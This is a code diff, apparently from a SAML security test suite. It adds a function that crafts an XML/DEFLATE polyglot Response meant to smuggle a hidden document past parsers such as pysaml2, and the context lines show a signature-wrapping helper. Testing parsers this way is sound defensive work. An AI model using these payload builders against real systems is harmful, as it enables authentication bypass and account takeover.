@@ -119,3 +119,55 @@ def xpath_first_signature(xml: str, depth: int = 100) -> str:
     return xml.replace(genuine, bogus + genuine, 1).replace(
         f"</{ds}:X509Data>", f"</{ds}:X509Data>" + padding, 1
     )
+
+
+# A response that is XML one way and DEFLATE the other (found by the second attacker review):
+# the element name's prefix below is a dynamic-Huffman block header that turns the ASCII after
+# it into whitespace; a DEL inside a comment ends that block and opens a stored one, whose
+# raw payload (the comment's text) is another document. pysaml2 once inflated POSTed bytes first.
+POLYGLOT_PREFIX = b"\xc6\xbb\xd5\xb5ipu-wL\xc6\xb8-\xd3\xabXF.F.\xc3\x8a\xc6\xb5Lo\xd8\xae\xe1\xba\xaes_\xd6\x82\xe1\xb8\xbc"
+
+
+def _stored_length(minimum):
+    best = None
+    for high in range(0x40, 0x7F):
+        for low in range(0x20, 0x3E):
+            if low == 0x2D:
+                continue
+            n = low + 256 * high
+            if n >= minimum and (best is None or n < best[0]):
+                best = (n, low, high)
+    n, low, high = best
+    return n, bytes([low, high, low ^ 0xFF, high ^ 0xFF])
+
+
+def polyglot(cover: str, hidden: str) -> bytes:
+    """``cover`` as its XML reads, ``hidden`` as its DEFLATE stream inflates."""
+    body = re.sub(r"^<\?xml[^>]*>\s*", "", cover)
+    start = re.match(r"<(\w+):Response ([^>]*)>", body)
+    inner = body[start.end() : body.rindex(f"</{start.group(1)}:Response>")]
+    payload = re.sub(r"^<\?xml[^>]*>\s*", "", hidden).encode()
+    assert b"--" not in payload
+    assert not payload.endswith(b"-")
+    n, header = _stored_length(len(payload))
+    prefix = POLYGLOT_PREFIX
+    head = (
+        b"<"
+        + prefix
+        + b":Response xmlns:"
+        + prefix
+        + b'="urn:oasis:names:tc:SAML:2.0:protocol" '
+        + start.group(2).encode()
+        + b"><!--\x7fB"
+    )
+    return (
+        head
+        + header
+        + payload
+        + b" " * (n - len(payload))
+        + b"-->"
+        + inner.encode()
+        + b"</"
+        + prefix
+        + b":Response>"
+    )
